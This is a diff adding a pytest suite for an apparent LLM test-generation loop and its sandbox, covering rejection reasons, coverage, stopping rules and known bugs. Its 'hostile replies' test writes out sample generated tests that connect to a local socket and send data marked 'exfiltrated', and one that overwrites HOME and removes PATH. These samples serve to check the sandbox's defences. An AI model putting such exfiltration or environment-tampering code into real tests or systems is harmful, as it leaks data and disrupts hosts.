@@ -1,0 +1,354 @@
+"""The refinement loop (fleet.trm.loop.Engine) with a scripted backend and the real sandbox.
+
+The engine prefills every reply with "```python\\nimport pytest\\nfrom calc import " and parses
+prefill + reply, so each scripted reply starts with the imported names.
+"""
+
+from __future__ import annotations
+
+import os
+import select
+import socket
+import subprocess
+import sys
+import uuid
+from pathlib import Path
+
+import pytest
+
+from fleet.jobs import Job
+from fleet.llm.base import Sampling
+from fleet.llm.scripted import ScriptedBackend
+from fleet.sandbox import Limits
+from fleet.trm.loop import Engine, EngineSettings
+
+SRC = """\
+def add(a, b):
+    return a + b
+
+
+def sign(x):
+    if x > 0:
+        return 1
+    if x < 0:
+        return -1
+    return 0
+"""
+HEAD = "add, sign\n\n"
+T_ADD = "def test_add():\n    assert add(1, 2) == 3\n    assert add(-1, 1) == 0\n"
+T_POS = "def test_sign_positive():\n    assert sign(5) == 1\n"
+T_NEG = "def test_sign_negative():\n    assert sign(-5) == -1\n"
+T_ZERO = "def test_sign_zero():\n    assert sign(0) == 0\n"
+T_WRONG = "def test_sign_wrong():\n    assert sign(5) == 7\n"
+
+
+def reply(*tests: str) -> str:
+    return HEAD + "\n\n".join(tests)
+
+
+def job() -> Job:
+    return Job(module="calc", target_path="calc.py", files={"calc.py": SRC})
+
+
+def engine_settings(**overrides) -> EngineSettings:
+    """EngineSettings for these tests: few reruns, and no mutation scoring where the engine has it
+    (it is not what these tests are about, and it multiplies the sandbox runs)."""
+    overrides.setdefault("reruns", 2)
+    if "mutation_max_mutants" in EngineSettings.__dataclass_fields__:
+        overrides.setdefault("mutation_max_mutants", 0)
+    return EngineSettings(**overrides)
+
+
+def run_engine(replies: list[str], **settings) -> tuple[dict, ScriptedBackend]:
+    backend = ScriptedBackend(replies)
+    engine = Engine(backend, sampling=Sampling(), settings=engine_settings(**settings), limits=Limits())
+    return engine.run(job()), backend
+
+
+def kept(report: dict) -> list[str]:
+    return [t["name"] for t in report["tests"]]
+
+
+def rejections(report: dict) -> dict[str, str]:
+    """Rejected test name → reason (the last one recorded)."""
+    return {r["name"]: r["reason"] for r in report["rejected"]}
+
+
+@pytest.fixture
+def tmp_marker():
+    """A unique path in /tmp that the sandboxed tests may use as a counter; removed afterwards."""
+    path = Path(f"/tmp/fleet-engine-test-{uuid.uuid4().hex}")
+    yield path
+    path.unlink(missing_ok=True)
+
+
+def counting_test(name: str, marker: Path, body: str, on_second: str) -> str:
+    """A test that counts its runs in ``marker`` and does ``on_second`` on every second run."""
+    return (
+        f"def {name}():\n"
+        f"    import os\n"
+        f"    path = {str(marker)!r}\n"
+        f"    n = int(open(path).read()) if os.path.exists(path) else 0\n"
+        f"    with open(path, 'w') as fh:\n"
+        f"        fh.write(str(n + 1))\n"
+        f"    if n % 2 == 1:\n"
+        f"        {on_second}\n"
+        f"{body}"
+    )
+
+
+# -- a good reply ------------------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def good():
+    return run_engine([reply(T_ADD, T_POS)], max_iterations=1, reruns=3)
+
+
+def test_good_reply_report(good):
+    report, backend = good
+    assert report["status"] == "ok"
+    assert report["module"] == "calc"
+    assert report["tests_kept"] >= 1
+    assert set(kept(report)) == {"test_add", "test_sign_positive"}
+    assert report["coverage_after"]["line"] > report["coverage_before"]["line"]
+    assert report["coverage_after"]["lines_covered"] == 5  # 2 defs, add's return, sign's first if + return
+    assert report["coverage_after"]["lines_total"] == 8
+    assert report["reruns"] == 3
+    assert report["final_runs_passed"] == report["reruns"]
+    assert report["rejected"] == []
+    assert report["stop_reason"] == "max-iterations"
+    assert len(report["iterations"]) == 1 and len(backend.prompts) == 1
+    assert {t["name"]: t["asserts"] for t in report["tests"]} == {"test_add": 2, "test_sign_positive": 1}
+    assert report["tokens"]["in"] > 0 and report["tokens"]["out"] > 0
+    assert report["model"]["id"] == "scripted"
+    assert report["job_id"] == job().job_id
+
+
+def test_good_reply_prompt_shows_the_target(good):
+    _, backend = good
+    system, user = backend.prompts[0]
+    assert system.role == "system" and user.role == "user"
+    assert SRC.strip() in user.content
+    assert "`add`" in user.content and "`sign`" in user.content
+
+
+def test_good_reply_test_module_runs_green(good, tmp_path):
+    report, _ = good
+    text = report["test_module"]
+    assert "def test_add" in text and "def test_sign_positive" in text
+    (tmp_path / "calc.py").write_text(SRC)
+    (tmp_path / "test_calc.py").write_text(text)
+    done = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_calc.py"],
+                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, text + "\n" + done.stdout + done.stderr
+    assert "2 passed" in done.stdout
+
+
+# -- rejections --------------------------------------------------------------------------------
+
+def test_failing_test_rejected_and_fed_back():
+    report, backend = run_engine([reply(T_ADD, T_WRONG), reply(T_POS)], max_iterations=2, patience=5)
+    assert len(backend.prompts) == 2
+    wrong = [r for r in report["rejected"] if r["name"] == "test_sign_wrong"]
+    assert wrong and wrong[0]["reason"] == "assertion" and wrong[0]["iteration"] == 1
+    assert "7" in wrong[0]["detail"]
+    assert "test_sign_wrong" not in kept(report)
+    assert set(kept(report)) == {"test_add", "test_sign_positive"}
+    first, second = backend.prompts[0][-1].content, backend.prompts[1][-1].content
+    assert "test_sign_wrong" not in first
+    assert "test_sign_wrong" in second
+    assert "assert 1 == 7" in second  # the error text itself, not just the name
+
+
+def test_test_without_new_coverage_is_rejected():
+    twin = "def test_add_again():\n    assert add(2, 3) == 5\n"
+    report, _ = run_engine([reply(T_ADD, twin)], max_iterations=1)
+    names = {"test_add", "test_add_again"}
+    assert len(set(kept(report)) & names) == 1
+    (other,) = names - set(kept(report))
+    assert rejections(report)[other] == "no-new-coverage"
+
+
+@pytest.mark.xfail(strict=True, raises=IndexError,
+                   reason="BUG: Judge._stabilise evaluates the .get() default `old_broken[0]` eagerly, so a flaky "
+                          "candidate with no earlier-kept test failing raises IndexError and crashes the job")
+def test_flaky_test_is_rejected(tmp_marker):
+    flaky = counting_test("test_flaky_negative", tmp_marker, "    assert sign(-3) == -1\n",
+                          "assert False, 'every second run fails'")
+    report, _ = run_engine([reply(T_ADD, flaky)], max_iterations=1, reruns=3)
+    assert rejections(report).get("test_flaky_negative") == "flaky"
+    assert kept(report) == ["test_add"]
+    assert int(tmp_marker.read_text()) >= 2  # it really ran more than once
+    assert report["final_runs_passed"] == report["reruns"] == 3
+    assert "test_flaky_negative" not in report["test_module"]
+
+
+def test_redefinition_of_target_is_rejected_and_real_code_tested():
+    fake = "def sign(x):\n    return 42\n"
+    report, _ = run_engine([reply(fake, "def test_sign_fake():\n    assert sign(1) == 1\n")], max_iterations=1)
+    assert rejections(report)["sign"] == "redefines-target"
+    assert kept(report) == ["test_sign_fake"]
+    assert "return 42" not in report["test_module"]
+
+
+# -- the loop ----------------------------------------------------------------------------------
+
+def test_quality_history_is_non_decreasing():
+    replies = [reply(T_ADD), reply(T_POS), reply(T_WRONG), reply(T_NEG, T_ZERO)]
+    report, _ = run_engine(replies, max_iterations=4, patience=3)
+    quality = [h["quality"] for h in report["iterations"]]
+    assert len(quality) == 4
+    assert quality == sorted(quality)
+    assert quality[-1] > quality[1] > quality[0] > 0
+    assert quality[2] == quality[1]  # the failing reply changed nothing
+    totals = [h["tests_total"] for h in report["iterations"]]
+    assert totals == [1, 2, 2, 4]
+    assert report["quality"] == quality[-1]
+
+
+def test_convergence_stops_early():
+    full = "def test_sign_all():\n    assert sign(3) == 1\n    assert sign(-3) == -1\n    assert sign(0) == 0\n"
+    report, backend = run_engine([reply(T_ADD, full)], max_iterations=4)
+    assert report["stop_reason"] in ("converged", "fully-covered")
+    assert report["converged"] is True
+    assert len(report["iterations"]) == 1 < 4
+    assert len(backend.prompts) == 1
+    assert report["coverage_after"]["line"] == 1.0 and report["coverage_after"]["branch"] == 1.0
+    assert report["quality"] >= 0.95
+
+
+def test_plateau_when_replies_add_nothing():
+    report, backend = run_engine([reply(T_ADD)], max_iterations=6, patience=2)
+    assert report["stop_reason"] == "plateau"
+    assert report["converged"] is False
+    assert len(report["iterations"]) == 3 < 6
+    assert [h["improvement"] for h in report["iterations"]][1:] == [0.0, 0.0]
+    assert kept(report) == ["test_add"]  # the repeats (renamed test_add_2, …) add nothing
+    assert set(rejections(report).values()) == {"no-new-coverage"}
+    assert len(backend.prompts) == 3
+
+
+def test_token_budget_stops_after_one_iteration():
+    report, backend = run_engine([reply(T_ADD)], max_iterations=5, max_tokens=1)
+    assert report["stop_reason"] == "token-budget"
+    assert len(report["iterations"]) == 1 and len(backend.prompts) == 1
+    assert report["tokens"]["in"] + report["tokens"]["out"] >= 1
+    assert report["status"] == "ok"  # what was kept before the budget ran out is still reported
+
+
+def test_max_iterations_from_job_options():
+    from dataclasses import replace
+
+    from fleet.jobs import Options
+
+    backend = ScriptedBackend([reply(T_ADD)])
+    engine = Engine(backend, sampling=Sampling(), settings=engine_settings(max_iterations=7, patience=9),
+                    limits=Limits())
+    report = engine.run(replace(job(), options=Options(max_iterations=2)))
+    assert len(report["iterations"]) == 2
+    assert report["stop_reason"] == "max-iterations"
+
+
+def test_garbage_reply_yields_no_tests():
+    garbage = "I'm sorry, but as an AI model I cannot help with that request. ¯\\_(ツ)_/¯ {{{ ]]]"
+    progress: list[dict] = []
+    backend = ScriptedBackend([garbage])
+    engine = Engine(backend, sampling=Sampling(), settings=engine_settings(max_iterations=3), limits=Limits())
+    report = engine.run(job(), progress=progress.append)
+    assert report["status"] == "no-tests"
+    assert report["tests_kept"] == 0 and report["tests"] == []
+    assert report["test_module"] == ""
+    assert report["final_runs_passed"] == 0
+    assert report["quality"] == 0.0
+    assert report["rejected"] and {r["reason"] for r in report["rejected"]} == {"syntax"}
+    assert report["stop_reason"] == "plateau" and len(report["iterations"]) == 2
+    assert [p["iteration"] for p in progress] == [1, 2]
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: with no test kept, coverage_after is the empty measure (0 lines) "
+                                      "while coverage_before counts import-time lines, so coverage appears to drop")
+def test_no_tests_does_not_report_lower_coverage_than_before():
+    report, _ = run_engine(["nothing useful here"], max_iterations=2)
+    assert report["status"] == "no-tests"
+    assert report["coverage_after"]["lines_covered"] >= report["coverage_before"]["lines_covered"]
+
+
+# -- hostile replies ---------------------------------------------------------------------------
+
+def test_hostile_tests_cannot_reach_parent_socket_or_environment():
+    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    env_before = dict(os.environ)
+    home = os.environ.get("HOME", "")
+    tag = uuid.uuid4().hex
+    net = (
+        "def test_phone_home():\n"
+        "    import socket\n"
+        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
+        "    s.sendall(b'exfiltrated')\n"
+        "    s.close()\n"
+        "    assert sign(-2) == -1\n"
+    )
+    raw_net = (
+        "def test_raw_socket():\n"
+        "    import socket\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "    s.settimeout(3)\n"
+        f"    s.connect(('127.0.0.1', {port}))\n"
+        "    s.sendall(b'exfiltrated')\n"
+        "    assert sign(-4) == -1\n"
+    )
+    env = (
+        "def test_env_tamper():\n"
+        "    import os\n"
+        f"    assert os.environ.get('HOME') != {home!r}\n"
+        "    os.environ['HOME'] = '/pwned'\n"
+        f"    os.environ['FLEET_PWNED_{tag}'] = '1'\n"
+        "    os.environ.pop('PATH', None)\n"
+        "    assert sign(0) == 0\n"
+    )
+    try:
+        report, _ = run_engine([reply(T_ADD, net, raw_net, env)], max_iterations=1)
+        readable, _, _ = select.select([listener], [], [], 0.5)
+        assert readable == [], "a sandboxed test connected to the parent's listening socket"
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    finally:
+        listener.close()
+    reasons = rejections(report)
+    assert reasons.get("test_phone_home") == "sandbox-violation"
+    assert reasons.get("test_raw_socket") == "sandbox-violation"
+    assert "test_env_tamper" in kept(report)  # it ran, passed, and saw a scrubbed HOME
+    assert dict(os.environ) == env_before
+    assert f"FLEET_PWNED_{tag}" not in os.environ
+
+
+# -- bugs --------------------------------------------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="BUG: Judge._stabilise drops earlier-kept tests when a new candidate makes "
+                                      "them fail in a rerun (it rejects the candidate and then also removes the "
+                                      "old tests in the same pass)")
+def test_candidate_crashing_a_rerun_does_not_drop_earlier_kept_tests(tmp_marker):
+    crasher = counting_test("test_sign_positive", tmp_marker, "    assert sign(4) == 1\n", "os._exit(3)")
+    report, _ = run_engine([reply(T_ADD), reply(crasher)], max_iterations=2, patience=5)
+    assert rejections(report).get("test_sign_positive") == "flaky"
+    assert report["iterations"][0]["tests_total"] == 1
+    assert kept(report) == ["test_add"]  # kept in iteration 1, passed every rerun since
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: target lines run by a fixture are attributed to the previous coverage "
+                                      "context (coverage.py test_function contexts start at the test function), so "
+                                      "a test whose fixture covers new code is rejected as no-new-coverage")
+def test_coverage_through_a_fixture_counts_for_its_test():
+    fixture_reply = (
+        HEAD
+        + "@pytest.fixture\ndef negative():\n    return sign(-5)\n\n\n"
+        + "def test_negative(negative):\n    assert negative == -1\n"
+    )
+    report, _ = run_engine([fixture_reply], max_iterations=1)
+    assert kept(report) == ["test_negative"]
+    assert report["coverage_after"]["line"] > report["coverage_before"]["line"]
